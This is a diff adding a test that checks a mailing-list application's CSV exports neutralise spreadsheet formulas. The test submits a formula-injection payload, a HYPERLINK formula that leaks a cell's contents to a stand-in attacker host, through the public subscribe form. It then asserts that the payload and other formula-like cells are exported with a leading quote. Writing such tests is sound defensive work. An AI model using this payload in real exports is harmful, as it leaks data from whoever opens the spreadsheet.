@@ -168,3 +168,26 @@ def test_a_locked_account_that_does_not_exist_looks_like_one_that_does(strict_se
     def shown(response, email):
         return response.text.replace(csrf_of(response.text), "").replace(email, "")
     assert shown(real, "ed@example.org") == shown(ghost, "ghost@example.org")
+
+
+# Spreadsheet formulas in CSV exports ------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def test_the_web_export_neutralises_formulas_typed_on_the_public_form(live_server, admin, tmp_path):
+    response = live_server.client.post("/subscribe/weekly", data={"email": "eve@example.org", "name": FORMULA})
+    assert response.status_code == 200
+    upload = tmp_path / "people.csv"
+    upload.write_text("email,name,@cmd,city\nann@example.org,-2+3,+1+1,=1+1\nbo@example.org,Bo,plain,'-x\n",
+                      encoding="utf-8")
+    import_subscribers(database_url=live_server.settings.database_url, path=upload, list_name="weekly",
+                       confirmed=True)
+    for path in ("/admin/lists/weekly/export.csv", "/api/lists/weekly/export.csv"):
+        rows = list(csv.reader(io.StringIO(admin.get(path, params={"status": "all"}).text)))
+        assert rows[0][-2:] == ["'@cmd", "city"]
+        by_email = {row[0]: row for row in rows[1:]}
+        assert by_email["eve@example.org"][1] == "'" + FORMULA
+        assert (by_email["ann@example.org"][1], by_email["ann@example.org"][-2:]) == ("'-2+3", ["'+1+1", "'=1+1"])
+        assert by_email["bo@example.org"][-1] == "'-x"  # imported as "-x": the quote marked it as text
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
